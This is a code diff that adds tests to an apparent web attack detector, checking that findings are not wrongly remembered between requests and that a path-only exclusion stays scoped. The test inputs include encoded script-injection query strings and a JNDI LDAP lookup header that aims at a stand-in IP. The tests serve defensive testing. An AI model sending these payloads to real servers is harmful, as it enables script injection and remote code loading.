@@ -74,6 +74,28 @@ describe("an exclusion", () => {
   });
 });
 
+describe("what was found harmless once is remembered, and", () => {
+  const attacks: readonly Case[] = [
+    { query: "a%3Cscript%3Ealert(1)%3C/script%3E=1&b%3Cscript%3Ealert(2)%3C/script%3E=1" },
+    { query: "b%3Cscript%3Ealert(2)%3C/script%3E=1" },
+  ];
+
+  test("a value is not, that stood beside another attack", () => {
+    const fresh = buildBuiltin();
+    for (const value of [...attacks, ...attacks]) {
+      const { facts, body } = requestOf(value);
+      assert.notDeepEqual(hitsOf(fresh, facts, body), [], JSON.stringify(value));
+    }
+  });
+
+  test("a value is not, whose finding was exempt on that path only", () => {
+    const fresh = buildBuiltin({ exclude: [{ filter: "*", path: "/free" }] });
+    const { facts } = requestOf({ header: ["X-A", "${jndi:ldap://198.51.100.7/a}"] });
+    assert.deepEqual(hitsOf(fresh, { ...facts, target: "/free" }, ""), []);
+    assert.notDeepEqual(hitsOf(fresh, facts, ""), []);
+  });
+});
+
 describe("an attack is found", () => {
   const hidden: Readonly<Record<string, Case>> = {
     "in JSON within a form's field": { form: `payload=${encodeURIComponent(JSON.stringify({ a: [{ b: ATTACK }] }))}` },
